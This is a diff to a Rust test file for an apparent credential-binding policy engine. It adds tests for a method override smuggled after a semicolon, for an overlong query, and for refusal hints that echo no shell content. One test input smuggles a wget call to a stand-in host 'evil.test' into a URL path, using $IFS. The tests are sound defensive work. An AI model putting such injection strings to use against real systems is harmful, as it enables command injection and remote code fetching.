@@ -3,11 +3,12 @@
 use ed25519_dalek::{Signer as _, SigningKey};
 
 use super::*;
-use crate::ask::{Terms, Way};
+use crate::ask::{Named, Terms, Way};
 use crate::destination::{Host, HostPattern, Methods};
 use crate::name::BindingId;
 use crate::path::{PathPattern, Paths};
 use crate::policy_doc::PolicyContent;
+use crate::record::AllowedHost;
 use crate::{Binding, BindingDraft};
 
 const PLACEHOLDER: &str = "sk_withheldKAAAAAAAAAAAAAAAAAAAAAAAA";
@@ -468,6 +469,44 @@ fn h22_what_overrides_the_request_is_refused_on_a_bound_host() {
 }
 
 #[test]
+fn h22_a_method_hidden_behind_a_semicolon_is_found() {
+    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
+    assert_eq!(
+        table.says(
+            get("https://api.test/v1?a=1;_method=DELETE")
+                .names("K", None)
+                .ask()
+        ),
+        "binding_violation"
+    );
+}
+
+#[test]
+fn a_head_full_of_marks_is_refused() {
+    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
+    let query = vec!["a=withheld"; 65].join("&");
+    assert_eq!(
+        table.says(get(&format!("https://api.test/v1?{query}")).ask()),
+        "ambiguous_request"
+    );
+}
+
+#[test]
+fn a_hint_holds_nothing_that_a_shell_would_run() {
+    let table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
+    let ask = get("https://api.test/v2/x;wget$IFS'evil.test'")
+        .names("K", None)
+        .ask();
+    let Decision::Refuse(refused) = table.decide(ask) else {
+        panic!("it passes");
+    };
+    assert_eq!(
+        refused.refusal.hint.as_str(),
+        "see which rule: withheld why --last"
+    );
+}
+
+#[test]
 fn a_host_with_a_binding_is_washed_also_without_a_credential() {
     let mut table = Table::new(vec![binding(1, "K", "api.test", "bearer")]);
     table.content.allowed.push(allowed("api.test", false));
@@ -508,7 +547,7 @@ fn a_refusal_says_what_is_bound_and_what_to_type() {
         "see which rule: withheld why POST https://api.test/v1"
     );
     assert_eq!(json["retry"], "after_owner");
-    assert_eq!(json["facts"]["bound"], serde_json::json!(["GET /v1"]));
+    assert_eq!(json["facts"]["bound"], serde_json::json!(["GET /v1/*"]));
     assert_eq!(
         json["facts"]["rule"],
         BindingId::from_bytes([1; 6]).to_string()
